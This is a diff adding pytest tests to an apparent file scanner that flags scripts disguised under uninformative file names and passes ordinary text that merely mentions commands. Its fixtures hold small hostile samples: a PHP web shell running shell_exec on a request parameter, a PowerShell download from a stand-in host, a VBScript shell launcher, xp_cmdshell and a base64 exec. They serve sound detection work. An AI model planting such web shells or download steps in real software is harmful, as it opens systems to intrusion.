@@ -323,3 +323,35 @@ def test_remarks_without_an_end_cost_nothing():
     look(b"<!--" * (1 << 20), "a.html", type="text/html")
     look(b"<!--" * (1 << 18) + b"--><registration progid='x'/>" + b"<!--" * (1 << 18), "a.html", type="text/html")
     assert time.process_time() - started < 2
+
+
+@pytest.mark.parametrize("name", ["a.abc", "對帳單.v7", "a.txt_", "run.ps1-old", "a.xyz"])
+@pytest.mark.parametrize("data", [
+    b'Dim s\r\nSet s = CreateObject("WScript.Shell")\r\ns.Run "calc.exe", 0, True\r\n',
+    b'Write-Host "a"\nInvoke-WebRequest -Uri http://h.example/a -OutFile $env:TEMP\\a.txt\n',
+    b"<?php\n$a = $_GET['c'];\necho shell_exec($a);\n",
+    b'tell application "Finder"\n\tactivate\nend tell\n',
+    b"# the job\nimport os\nos.system('id')\n",
+])
+def test_scripts_under_names_that_tell_nothing(name, data):
+    assert any(f.severity is Severity.HIGH for f in look(data, name))
+
+
+@pytest.mark.parametrize(("name", "data"), [
+    ("a.ts", b"import { a } from './a'\nexport const b = () => { return a(); };\n"),
+    ("a.sql", b"-- nightly\nEXEC xp_cmdshell 'dir';\n"),
+    ("app.log.20261121", b"2026-11-21 10:00:00 INFO start\n2026-11-21 10:00:01 INFO cmd.exe /c dir\n"),
+    ("a.abc", b"<order><note>cmd.exe /c dir</note></order>\n"),
+    ("a.lst", b"0001|name|12\n0002|powershell.exe -File a.ps1|13\n"),
+    ("minutes.v2", b"Dim the lights in room 3.\nSet up the projector at nine.\nCall Mr. Wang about the rent.\n"),
+    ("a.rpt", b"TOTALS FOR NOVEMBER\n\nimport duties 12\nexit charges 13\nstart balance 9\n"),
+    ("a.abc", b"Hello Bob,\nplease run it as follows and tell me what you see:\n\n    powershell -File a.ps1\n\nThank you very much for the help.\n"),
+])
+def test_texts_under_names_that_tell_nothing(name, data):
+    assert not look(data, name)
+
+
+def test_code_between_fences_is_there_to_be_read():
+    code = b"```py\nimport base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n```\n"
+    assert look(b"# Lab\n\n" + code, "README.md") == []
+    assert look(b"# Lab\n\n" + code.replace(b"```", b"\n"), "README.md") and look(code, "a.txt")
